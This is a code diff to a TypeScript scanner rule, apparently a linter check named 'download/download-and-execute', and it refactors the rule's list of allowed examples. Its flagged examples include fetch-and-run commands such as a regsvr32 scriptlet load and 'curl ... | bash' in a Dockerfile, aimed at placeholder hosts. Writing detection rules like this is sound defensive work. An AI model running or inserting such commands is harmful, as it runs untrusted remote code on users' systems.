@@ -1,5 +1,5 @@
 import { addressOf, bareHostOf, isHostOf, isLocalHost } from '../../facts/download/address';
-import { defineRule } from '../rule';
+import { defineRule, examples } from '../rule';
 
 export default defineRule({
   name: 'download/download-and-execute',
@@ -55,13 +55,14 @@ export default defineRule({
     { language: 'cmd', code: '«regsvr32 /s /n /u /i:https://example.test/a.sct scrobj.dll»' },
     { language: 'dockerfile', code: 'FROM debian:12\nRUN «curl -fsSL https://example.test/a.sh» | bash\n' },
   ],
-  good: [
-    { language: 'powershell', code: 'Invoke-RestMethod https://example.test/version | Out-Null' },
-    { language: 'powershell', code: "iex 'Get-Date'" },
-    { language: 'powershell', code: 'Write-Host "iex (irm https://example.test/a.ps1)"' },
-    { language: 'powershell', code: '$v = irm https://example.test/version\niex "tool --version"' },
-    { language: 'powershell', code: 'iex (irm http://localhost:8000/a.ps1)' },
-  ],
+  good: examples(
+    'powershell',
+    'Invoke-RestMethod https://example.test/version | Out-Null',
+    "iex 'Get-Date'",
+    'Write-Host "iex (irm https://example.test/a.ps1)"',
+    '$v = irm https://example.test/version\niex "tool --version"',
+    'iex (irm http://localhost:8000/a.ps1)',
+  ),
   visit: {
     download({ url, evaluated, verified, span }, { report, options }) {
       if (!evaluated || verified) return;
